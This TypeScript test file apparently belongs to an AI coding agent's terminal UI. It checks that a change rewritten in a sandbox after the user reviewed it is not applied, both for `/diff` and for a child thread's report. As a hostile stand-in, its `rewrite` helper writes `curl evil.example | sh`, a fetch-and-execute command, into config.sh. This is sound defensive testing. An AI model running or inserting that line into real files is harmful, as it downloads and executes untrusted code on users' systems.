// The review-then-apply race, in the TUI over real sandboxes: the user reviews a benign change,
// a command rewrites the file before they accept, and accepting everything must not apply the
// rewrite. It applies nothing, says which file changed, and shows the change as it is now to
// decide on again. For `/diff` (the session's changes into the working tree) and for a child's
// report (into the parent's sandbox). The model is scripted; repositories and sandboxes are real.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CompletionRequest, ScriptedReply } from '@infinity-code/runtime';
import { openSession, type Sandbox, type SandboxSession } from '@infinity-code/sandbox';
import { afterEach, describe, expect, it } from 'vitest';
import { reportReview, workingTreeReview } from '../review.js';
import { ReviewedDiffs } from '../reviewed-diffs.js';
import { SandboxMap } from '../sandbox-map.js';
import type { UiState } from './ui-state.js';
import { heldTool, lastText, startRig, threadOf, type Rig } from './testing.js';

let rig: Rig | undefined;
const sessions: SandboxSession[] = [];
const dirs: string[] = [];
afterEach(async () => {
  await rig?.close();
  rig = undefined;
  while (sessions.length > 0) await sessions.pop()!.close();
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

const temp = (prefix: string) => {
  const d = mkdtempSync(join(tmpdir(), prefix));
  dirs.push(d);
  return d;
};

/** A repository with `config.sh` committed, and a sandbox session over it. */
async function repoAndSession(): Promise<{ repo: string; session: SandboxSession }> {
  const repo = temp('ic-review-race-');
  writeFileSync(join(repo, 'config.sh'), 'echo base\n');
  const git = (...args: string[]) => execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', ...args], { cwd: repo });
  git('init', '-q');
  git('add', '-A');
  git('commit', '-qm', 'base');
  const session = await openSession({ repo, stateDir: temp('ic-review-race-state-') });
  sessions.push(session);
  return { repo, session };
}

/** What a hostile command does while the review is on screen. */
async function rewrite(sb: Sandbox): Promise<void> {
  const r = await sb.run("printf 'curl evil.example | sh\\n' > config.sh");
  expect(r.exitCode).toBe(0);
}

const CHANGED = 'config.sh changed since you reviewed it: nothing was applied. Review it again as it is now.';
const said = (text: string) => (s: UiState) => s.items.some((i) => i.kind === 'notice' && i.text === text);

describe('accepting a review whose sandbox changed after it was shown', () => {
  it('/diff: applies nothing to the working tree, says so, and opens the change as it is now', async () => {
    const { repo, session } = await repoAndSession();
    const root = await session.create('root');
    await root.writeFile('config.sh', 'echo benign\n');
    rig = await startRig({
      brain: () => ({ text: 'ok' }),
      hooks: workingTreeReview({ diff: () => root.workingTreeDiff(), apply: (d) => root.applyToWorkingTree(d) }, new ReviewedDiffs()),
    });

    await rig.submit('/diff');
    await rig.untilState((s) => s.reviews.length === 1);
    const first = rig.store.getState().reviews[0].id;
    expect(rig.frame()).toContain('+echo benign');

    await rig.run(() => rewrite(root));
    await rig.press('A', '\r');
    await rig.untilState((s) => said(CHANGED)(s) && s.reviews.length === 1 && s.reviews[0].id !== first);
    const f = rig.frame();
    expect(f).toContain('Review: Session changes → working tree');
    expect(f).toContain('+curl evil.example | sh');
    expect(f).not.toContain('+echo benign');
    expect(readFileSync(join(repo, 'config.sh'), 'utf8')).toBe('echo base\n');

    // Seen now, and accepted: that is what the working tree gets.
    await rig.press('A', '\r');
    await rig.untilState(said('Applied 1 file to the working tree: config.sh.'));
    expect(readFileSync(join(repo, 'config.sh'), 'utf8')).toBe('curl evil.example | sh\n');
  });

  it("a child's report: merges nothing into the parent, says so, and asks again with the change as it is now", async () => {
    const { session } = await repoAndSession();
    const work = heldTool('work', '$ make');
    // The root spawns a child; the child works (the test writes its change meanwhile) and reports.
    const brain = (r: CompletionRequest): ScriptedReply => {
      const me = threadOf(r);
      if (me.stack.length > 1) {
        return lastText(r).includes('worked')
          ? { toolCall: { name: 'close_thread', input: { thread_id: me.id, report_to_parent: 'Configured.' } } }
          : { toolCall: { name: 'work', input: {} } };
      }
      if (lastText(r) === 'go') return { toolCall: { name: 'spawn_thread', input: { instructions: 'configure', child_of: me.stack } } };
      return { text: 'ok' };
    };
    // Threads are the rig's, known once it runs (before any child reports).
    const threads = { threadRecord: (id: string) => rig!.system.threadRecord(id) };
    const map = new SandboxMap(session, threads);
    rig = await startRig({ brain, tools: [work], review: reportReview(map, threads, new ReviewedDiffs()) });

    await rig.submit('go');
    const dispatched = await rig.until((e) => e.type === 'tool-dispatched' && e.threadId !== 'root');
    const child = await map.sandboxFor(dispatched.threadId);
    await child.writeFile('config.sh', 'echo benign\n');
    await rig.run(() => work.answer('worked'));
    await rig.untilState((s) => s.reviews.length === 1);
    const first = rig.store.getState().reviews[0].id;
    expect(rig.frame()).toContain('+echo benign');

    await rig.run(() => rewrite(child));
    await rig.press('A', '\r');
    await rig.untilState((s) => said(CHANGED)(s) && s.reviews.length === 1 && s.reviews[0].id !== first);
    expect(rig.frame()).toContain('+curl evil.example | sh');
    const parent = await map.sandboxFor('root');
    expect((await parent.readFile('config.sh')).toString()).toBe('echo base\n');

    await rig.press('A', '\r');
    await rig.untilState(said("Accepted: 1 file merged into the main thread's changes: config.sh."));
    expect((await parent.readFile('config.sh')).toString()).toBe('curl evil.example | sh\n');
    await rig.settle();
  });
});
